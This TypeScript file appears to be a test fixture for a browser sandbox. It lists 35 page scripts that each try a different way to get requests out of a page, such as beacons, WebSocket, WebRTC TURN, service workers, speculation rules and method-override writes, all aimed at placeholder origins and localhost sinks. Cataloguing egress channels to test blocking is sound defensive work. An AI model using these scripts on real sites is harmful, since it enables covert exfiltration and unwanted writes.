/** Every way out of a browser that we know (`safety.md` 5.3), as script of a page. 35 is ours: the table does not have it. */
export interface Vector {
  id: string;
  name: string;
  /** Script of the page; `A` is its own origin, `B` a foreign one, `C` another that may be read, `tag` this vector's id for paths, `U` the port of the UDP sink, `T` and `P` those of two TCP sinks. */
  script: string;
  /** When it runs: as soon as the page is there, by a person's click, or when the page is left. */
  when: 'load' | 'click' | 'pagehide';
}

const v = (id: string, name: string, script: string, when: Vector['when'] = 'load'): Vector => ({ id, name, script, when });
/** Adds markup; `§` stands for the foreign origin. */
const element = (html: string): string => `add(\`${html.replaceAll('§', `\${B}`)}\`);`;
/** Posts, and asks the foreign origin, in a realm of its own. */
export const REALM =
  'fetch(A+"/v/"+tag,{method:"POST",mode:"no-cors"}).catch(()=>{});fetch(B+"/v/"+tag,{mode:"no-cors"}).catch(()=>{});';
const realm = `const code='const A="'+A+'",B="'+B+'",tag="'+tag+'";'+REALM;`;

export const VECTORS: readonly Vector[] = [
  v('01', 'fetch POST', 'fetch(A+"/v/"+tag,{method:"POST",body:"x"}).catch(()=>{})'),
  v(
    '02',
    'XHR DELETE, PUT, PATCH',
    'for(const m of ["DELETE","PUT","PATCH"]){const x=new XMLHttpRequest();x.open(m,A+"/v/"+tag);x.send("x")}',
  ),
  v('03', 'keepalive POST, page alive', 'fetch(A+"/v/"+tag,{method:"POST",keepalive:true,body:"x"}).catch(()=>{})'),
  v('04', 'beacon, page alive', 'navigator.sendBeacon(A+"/v/"+tag,"x")'),
  v('05', 'beacon in pagehide', 'navigator.sendBeacon(A+"/v/"+tag,"x")', 'pagehide'),
  v('06', 'keepalive POST in pagehide', 'fetch(A+"/v/"+tag,{method:"POST",keepalive:true,body:"x"})', 'pagehide'),
  v(
    '07',
    'form POST',
    `${element('<iframe name="f07"></iframe><form id="p07" method="post" action="/v/07" target="f07"></form>')}p07.submit()`,
  ),
  v(
    '08',
    'form POST into a popup',
    `${element('<form id="p08" method="post" action="/v/08" target="_blank"></form>')}p08.submit()`,
    'click',
  ),
  v('09', 'a ping', `${element('<a id="a09" href="#x" ping="/v/09">x</a>')}a09.click()`),
  v('10', 'CSP report', 'new Image().src=B.replace("127.0.0.1","img.localhost")+"/ignored.png"'),
  v('11', 'dedicated worker', `${realm}new Worker(URL.createObjectURL(new Blob([code])))`),
  v('12', 'shared worker', `${realm}new SharedWorker(URL.createObjectURL(new Blob([code])))`),
  v('13', 'service worker', 'navigator.serviceWorker.register("/sw.js?tag="+tag+"&B="+encodeURIComponent(B)).catch(()=>{})'),
  v(
    '14',
    'background sync and background fetch',
    'navigator.serviceWorker.register("/sw.js?bg=1&B="+encodeURIComponent(B)).then(()=>navigator.serviceWorker.ready).then(r=>{r.sync.register("14").catch(()=>{});r.backgroundFetch.fetch("14",[new Request(A+"/v/14",{method:"POST",body:"x"}),B+"/v/14"]).catch(()=>{})}).catch(()=>{})',
  ),
  v('15', 'fetchLater POST', 'if(self.fetchLater)fetchLater(A+"/v/"+tag,{method:"POST",body:"x",activateAfter:0})'),
  v('16', 'WebSocket, same origin and foreign', 'for(const o of [A,B])new WebSocket(o.replace("http","ws")+"/v/"+tag)'),
  v(
    '17',
    'WebSocket from a worker',
    `new Worker(URL.createObjectURL(new Blob(['for(const o of ["'+A+'","'+B+'"])new WebSocket(o.replace("http","ws")+"/v/17")'])))`,
  ),
  v('18', 'WebTransport', 'new WebTransport("https://127.0.0.1:"+U+"/v/18").ready.catch(()=>{})'),
  v(
    '19',
    'WebRTC STUN, UDP',
    'const c=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:"+U}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))',
  ),
  v(
    '20',
    'TURN over TCP',
    'const c=new RTCPeerConnection({iceTransportPolicy:"relay",iceServers:[{urls:"turn:127.0.0.2:"+T+"?transport=tcp",username:"u",credential:"p"}]});c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))',
  ),
  v('21', 'GET to 307 to foreign, by fetch', 'fetch(A+"/to/"+tag).catch(()=>{})'),
  v('22', 'GET to 307 to foreign, by frame', element('<iframe src="/to/22"></iframe>')),
  v('23', 'POST to 307', 'fetch(A+"/to/"+tag,{method:"POST"}).catch(()=>{})'),
  v(
    '24',
    'foreign image, CSS, font, media, script',
    `${element('<img src="§/v/24?img"><style>@import "§/v/24?import";@font-face{font-family:z;src:url(§/v/24?font)}i{font-family:z;background:url(§/v/24?bg)}</style><i>x</i><video src="§/v/24?media"></video>')}const s=document.createElement("script");s.src=B+"/v/24?script";document.body.append(s)`,
  ),
  v(
    '25',
    'foreign iframe, object, embed',
    element('<iframe src="§/v/25?f"></iframe><object data="§/v/25?o"></object><embed src="§/v/25?e">'),
  ),
  v(
    '26',
    'foreign favicon, manifest',
    'for(const r of ["icon","manifest"]){const l=document.createElement("link");l.rel=r;l.href=B+"/v/26?"+r;document.head.append(l)}',
  ),
  v(
    '27',
    'prefetch, speculation rules',
    'const l=document.createElement("link");l.rel="prefetch";l.href=B+"/v/27?l";document.head.append(l);const s=document.createElement("script");s.type="speculationrules";s.textContent=JSON.stringify({prefetch:[{source:"list",urls:[B+"/v/27?s"]}],prerender:[{source:"list",urls:[A+"/to/27"]}]});document.head.append(s)',
  ),
  v('28', 'foreign EventSource', 'new EventSource(B+"/v/28")'),
  v('29', 'foreign popup, meta refresh', 'open(B+"/v/29","_blank","noopener")', 'click'),
  v(
    '30',
    'preconnect',
    'const l=document.createElement("link");l.rel="preconnect";l.href="http://127.0.0.2:"+P;document.head.append(l)',
  ),
  v(
    '31',
    'about:blank, srcdoc, blob, data frames',
    `${realm}const s="<script>"+code+"</"+"script>";${element('<iframe id="f31"></iframe>')}f31.contentWindow.eval(code);const d=document.createElement("iframe");d.srcdoc=s;const b=document.createElement("iframe");b.src=URL.createObjectURL(new Blob([s],{type:"text/html"}));const u=document.createElement("iframe");u.src="data:text/html,"+encodeURIComponent(s);document.body.append(d,b,u)`,
  ),
  v(
    '32',
    'GET that writes, by image and fetch',
    'new Image().src=A+"/v/32/delete/1";fetch(A+"/v/32?action=delete").catch(()=>{})',
  ),
  v(
    '33',
    'method override by header and by query',
    'fetch(A+"/v/33",{headers:{"X-HTTP-Method-Override":"DELETE"}}).catch(()=>{});fetch(A+"/v/33?_method=delete").catch(()=>{})',
  ),
  v(
    '34',
    'federated login, payment manifest, push subscription',
    'navigator.credentials.get({identity:{providers:[{configURL:B+"/v/34/config.json",clientId:"x"}]}}).catch(()=>{});try{new PaymentRequest([{supportedMethods:B+"/v/34/pay"}],{total:{label:"x",amount:{currency:"EUR",value:"1"}}}).canMakePayment().catch(()=>{})}catch{}navigator.serviceWorker.register("/sw.js?push=1&B="+encodeURIComponent(B)).then(r=>r.pushManager.subscribe({userVisibleOnly:true,applicationServerKey:new Uint8Array([4,...Array(64).fill(1)])})).catch(()=>{})',
  ),
  v(
    '35',
    'CORS preflight to another origin of the read set, also from a worker',
    `const code='fetch("'+C+'/v/35",{headers:{"x-loot":"1"}}).catch(()=>{})';fetch(C+"/v/35",{headers:{"x-loot":"1"}}).catch(()=>{});new Worker(URL.createObjectURL(new Blob([code])))`,
  ),
];
